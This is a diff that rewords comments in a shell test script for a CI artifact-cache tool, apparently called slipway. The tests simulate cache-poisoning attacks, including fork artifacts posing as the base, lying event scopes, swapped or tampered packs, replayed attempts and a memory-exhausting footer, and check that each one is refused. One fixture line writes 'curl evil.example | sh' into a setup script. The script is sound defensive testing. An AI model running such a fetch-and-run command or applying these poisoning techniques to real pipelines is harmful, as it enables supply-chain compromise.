@@ -8,7 +8,7 @@ mkdir -p "$work/evil"
 echo 'curl evil.example | sh' >"$work/evil/setup.sh"
 into=(--folder "$work/restored")
 
-# The name is right, the branch is called main, it is the newest, and it is the fork's.
+# The name is right, the branch is called main, it is the newest - but it is the fork's.
 new_job "$pull" fork
 as fork quietly "$slipway" save --folder "$work/evil" --key release
 refused 'an artifact of a fork, named like the base' 'fork' victim "$slipway" restore release "${into[@]}"
@@ -20,20 +20,20 @@ sed -i -E "s#(GITHUB_EVENT_NAME)=.*#\1=push#; s#(GITHUB_REF)=.*#\1=refs/heads/ma
 as liar quietly "$slipway" save --folder "$work/evil" --key release-notes
 refused 'a scope that lies' 'fork' victim "$slipway" restore release-notes "${into[@]}"
 
-# A comment had a program dispatch a build of anybody's commit, under main's name.
+# A comment made a program dispatch a build of anybody's commit, under main's name.
 dispatched=$(new_run '{"repository":"acme/app","event":"repository_dispatch"}')
 new_job "$dispatched" chatops
 as chatops quietly "$slipway" save --folder "$work/evil" --key chatops
 refused 'what a dispatch built' 'event' victim "$slipway" restore chatops "${into[@]}"
 
-# Dependabot's branch is in the repository itself; a run of pull_request_target has the secrets that Dependabot's own has not.
+# Dependabot's branch is in the repository itself. A run of pull_request_target has secrets, Dependabot's own run has none.
 bump=$(tell POST pulls '{"repository":"acme/app","headBranch":"dependabot/npm/x"}' | jq .number)
 new_job "$(new_run "{\"repository\":\"acme/app\",\"event\":\"pull_request\",\"pull\":$bump}")" dependabot
 as dependabot quietly "$slipway" save --folder "$work/evil" --key deps
 new_job "$(new_run "{\"repository\":\"acme/app\",\"event\":\"pull_request_target\",\"pull\":$bump}")" labels
 refused "what Dependabot's pull request built" 'event' labels "$slipway" restore deps "${into[@]}"
 
-# Another job of the run replaces what the build job saved; the job that tests was told the digest.
+# Another job of the run replaces what the build job saved; the test job knows the digest.
 new_job "$victim" honest
 mkdir -p "$work/tools"
 seq 100000 >"$work/tools/list"
@@ -43,7 +43,7 @@ new_job "$victim" thief
 as thief quietly "$slipway" save --folder "$work/evil" --key tools --overwrite --no-base
 refused 'an artifact swapped under its name' 'root digest' victim "$slipway" restore tools --digest "$digest" "${into[@]}"
 
-# The bytes behind an artifact are others than those that were uploaded.
+# An artifact's bytes are not those that were uploaded.
 as honest quietly "$slipway" save --folder "$work/tools" --key binaries
 number=$(artifact binaries)
 tell GET "artifacts/$number/content" >"$work/pack"
@@ -51,7 +51,7 @@ head -c 40000 /dev/urandom | dd of="$work/pack" bs=1 seek=64 conv=notrunc status
 tell PUT "artifacts/$number/content" "@$work/pack" >/dev/null
 refused 'other bytes behind an artifact' 'digest|damaged' victim "$slipway" restore binaries "${into[@]}"
 
-# The second attempt saved a fixed image; what it saved disappears, and the first attempt's is offered.
+# The second attempt saved a fixed image. That disappears, and the first attempt's is offered.
 attempts=$(new_run '{"repository":"acme/app"}')
 new_job "$attempts" attempt-1
 as attempt-1 quietly "$slipway" save --folder "$work/evil" --key fixed
@@ -63,7 +63,7 @@ tell PATCH "artifacts/$(artifact fixed)" '{"deleted":true}' >/dev/null
 new_job "$attempts" attempt-2-tests
 refused 'the replay of an older attempt' 'root digest' attempt-2-tests "$slipway" restore fixed --digest "$digest" "${into[@]}"
 
-# ci-3.12 of the second push takes most chunks from the first push's pack, behind which are other bytes now, and then another pack.
+# ci-3.12 of the second push takes most chunks from the first push's pack, which now has other bytes, and then is another pack.
 base=$(tell GET artifacts | jq "[.[] | select(.run == $push and (.name | contains(\"ci-3.12\")))] | first.id")
 tell GET "artifacts/$base/content" >"$work/pack"
 head -c 4000000 /dev/urandom | dd of="$work/pack" bs=1M seek=1 conv=notrunc status=none
@@ -73,7 +73,7 @@ tell GET "artifacts/$(artifact release)/content" >"$work/pack"
 tell PUT "artifacts/$base/content" "@$work/pack" >/dev/null
 refused 'another pack in the place of a base' 'replaced' victim "$slipway" restore ci-3.12 --oci-layout "$work/restored-image"
 
-# A pack whose footer, rightly signed, asks its reader for 2 GiB of memory.
+# A pack whose footer, with the right digest, asks its reader for 2 GiB of memory.
 as honest quietly "$slipway" save --folder "$work/tools" --key index
 number=$(artifact index)
 tell GET "artifacts/$number/content" >"$work/pack"
